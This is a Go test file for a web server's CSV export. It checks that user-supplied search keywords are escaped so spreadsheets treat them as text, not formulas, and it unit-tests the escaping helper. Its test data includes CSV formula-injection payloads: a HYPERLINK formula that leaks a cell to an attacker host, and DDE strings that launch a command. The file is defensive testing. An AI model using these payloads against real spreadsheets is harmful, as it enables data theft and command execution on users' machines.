package server_test

import (
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/shuyuan-dev/shuyuan/internal/server"
)

// TestCSVFormulaInjection: keywords anyone with the public SDK token can
// send come out of ?format=csv as text, never as a live formula.
func TestCSVFormulaInjection(t *testing.T) {
	t.Parallel()
	e := newSDKEnv(t)
	keywords := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		"荔枝",
	}
	var evs []map[string]any
	at := time.Date(2024, 6, 1, 4, 0, 0, 0, time.UTC)
	for i, k := range keywords {
		evs = append(evs, sdkEvent("search", at.Add(time.Duration(i)*time.Minute), "oSearcher", "", map[string]any{"keyword": k}))
	}
	if a := e.upload(t, sdkJSON(t, evs)); *a.Code != 0 {
		t.Fatalf("upload: %v", a)
	}
	req, err := http.NewRequest("GET", e.url+"/api/v1/apps/shop/analysis/search?from=2024-06-01&to=2024-06-01&format=csv", nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+sdkTestAdminKey)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil || res.StatusCode != http.StatusOK {
		t.Fatalf("GET CSV: %d %v", res.StatusCode, err)
	}
	recs, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, body)
	}
	if len(recs) != len(keywords)+1 {
		t.Fatalf("%d records, want a header and %d keywords:\n%s", len(recs), len(keywords), body)
	}
	seen := map[string]bool{}
	for _, rec := range recs[1:] {
		k := rec[0]
		if strings.ContainsAny(k[:1], "=+-@\t\r") {
			t.Errorf("keyword cell %q begins a formula", k)
		}
		seen[strings.TrimPrefix(k, "'")] = true
	}
	// The search analysis folds keywords to lower case.
	for _, k := range keywords {
		if k = strings.ToLower(k); !seen[k] {
			t.Errorf("keyword %q lost (shown as text it must keep every character after the apostrophe)", k)
		}
	}
}

func TestCSVCell(t *testing.T) {
	cases := map[string]string{
		"":           "",
		"荔枝":         "荔枝",
		"=1+1":       "'=1+1",
		"+1+1":       "'+1+1",
		"-1+1":       "'-1+1",
		"@A1":        "'@A1",
		"\tx":        "'\tx",
		"\rx":        "'\rx",
		"-250":       "-250", // a negative difference stays a number
		"+3.5":       "+3.5",
		"\t5":        "'\t5",
		"a=b":        "a=b",
		"2026-03-10": "2026-03-10",
	}
	for in, want := range cases {
		if got := server.CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}
